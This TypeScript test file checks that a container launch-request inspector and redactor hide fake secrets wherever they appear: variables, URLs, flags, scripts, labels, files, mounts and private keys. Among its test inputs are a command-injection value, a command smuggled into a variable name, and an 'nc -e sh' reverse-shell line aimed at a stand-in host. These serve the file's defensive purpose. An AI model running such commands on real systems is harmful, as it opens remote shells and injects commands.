import { describe, expect, it } from 'vitest';
import { examineInputs, redactLaunch } from '../../src/input/index.ts';
import type { LaunchRequest } from '../../src/model/index.ts';
import { findLanguage } from '../fakes/languages.ts';
import { launchRequest } from '../fakes/launches.ts';

const secret = 'q7Zt-not-for-anybody-93';
const token = 'ghp_0123456789abcdefghijABCDEFGHIJ012345';

const { image: _, ...empty } = launchRequest();
const words = (...values: readonly string[]) => values.map((value, index) => ({ value, path: `Cmd[${index}]` }));
const variable = (name: string, value: string): Partial<LaunchRequest> => ({
  environment: [{ name, value, path: 'Env[0]' }],
});

function* findSecrets(text: string): Generator<{ start: number; end: number; name: string }> {
  for (const { index, 0: found } of text.matchAll(/ghp_\w{36}/g))
    yield { start: index, end: index + found.length, name: 'GitHub token' };
}

describe('no secret that is passed at start is shown or recorded', () => {
  it.each<[what: string, request: Partial<LaunchRequest>]>([
    ['in a variable by its name', variable('DB_PASSWORD', secret)],
    ['in a variable that is not upper case', variable('apiKey', secret)],
    ['in a variable that is also an injection', variable('DB_PASSWORD', `x;id;${secret}`)],
    ['in a URL', variable('DATABASE_URL', `postgres://app:${secret}@db/x`)],
    ['in a URL with a password of odd letters', variable('URL', `https://app:a@${secret}@db/x`)],
    ['in a connection string', variable('CS', `Server=db;User Id=sa;Password=${secret};Encrypt=true`)],
    ['in JSON', variable('CONFIG', JSON.stringify({ password: secret }))],
    ['in a flag', { command: words('serve', `--password=${secret}`) }],
    ['behind a flag', { command: words('serve', '--api-key', secret) }],
    ['behind a flag, and in another place', { command: words('serve', '--token', secret, `x=${secret}`) }],
    ['in a script', { command: words('sh', '-c', `PGPASSWORD=x psql postgres://a:${secret}@b/c; nc -e sh x 1`) }],
    [
      'in a healthcheck',
      { scripts: [{ purpose: 'healthcheck', command: words('sh', '-c', `curl https://u:${secret}@h/`) }] },
    ],
    ['of one place, in a label', { ...variable('TOKEN', secret), workload: { labels: { note: `see ${secret}` } } }],
    ['in a label by its name', { workload: { labels: { 'app.password': secret } } }],
    ['in a file', { files: [{ target: '/etc/app.conf', path: 'configs.a', content: `x: ${secret}` }] }],
    [
      'in options of a mount',
      {
        mounts: [
          { type: 'volume', path: 'm', target: '/m', readOnly: false, options: { o: `username=a,password=${secret}` } },
        ],
      },
    ],
    ['in what has no place', { others: [{ name: 'AuthToken', path: 'x', value: secret }] }],
    ['by its form', { command: words('serve', `x${' '.repeat(3)}ghp_0123456789abcdefghijABCDEFGHIJ012345`) }],
    ['by its form, in the name of a variable', variable('ghp_0123456789abcdefghijABCDEFGHIJ012345', 'x')],
    ['in a private key', variable('KEY', `-----BEGIN RSA PRIVATE KEY-----\n${secret}\n-----END RSA PRIVATE KEY-----`)],
    ['in a private key that is broken off', variable('KEY', `-----BEGIN PRIVATE KEY-----\n${secret}`)],
    ['in a name that is none', variable(`x;echo ${secret}`, 'y')],
  ])('%s', (_, part) => {
    const request: LaunchRequest = { ...empty, ...part };
    for (const strictness of [1, 2] as const) {
      const report = examineInputs(request, { strictness, findLanguage, findSecrets });
      expect(JSON.stringify(report)).not.toContain(secret);
      expect(JSON.stringify(report)).not.toContain(token);
      const redacted = JSON.stringify(redactLaunch(request, report, findSecrets));
      if (_ !== 'in a name that is none') expect(redacted).not.toContain(secret);
      expect(redacted).not.toContain(token);
    }
  });

  it('leaves what is no secret as it is', () => {
    const request: LaunchRequest = {
      ...empty,
      command: words('serve', '--port=80', '--password-file=/run/secrets/x'),
      environment: [
        { name: 'MODE', value: 'production', path: 'Env[0]' },
        { name: 'DB_PASSWORD_FILE', value: '/run/secrets/db', path: 'Env[1]' },
        { name: 'TOKEN', path: 'Env[2]', from: { kind: 'secret', name: 'app', key: 'token' } },
      ],
    };
    const report = examineInputs(request, { strictness: 2, findLanguage, findSecrets });
    expect(report.findings).toEqual([]);
    expect(redactLaunch(request, report, findSecrets)).toEqual(request);
  });

  it('tells kind and length of a file instead of its content', () => {
    const request: LaunchRequest = { ...empty, files: [{ target: '/a', path: 'f', content: '{"a":1}' }] };
    const { files } = redactLaunch(request, examineInputs(request, { strictness: 1, findLanguage }));
    expect(files).toEqual([{ target: '/a', path: 'f', content: '[7 characters, json]' }]);
  });
});
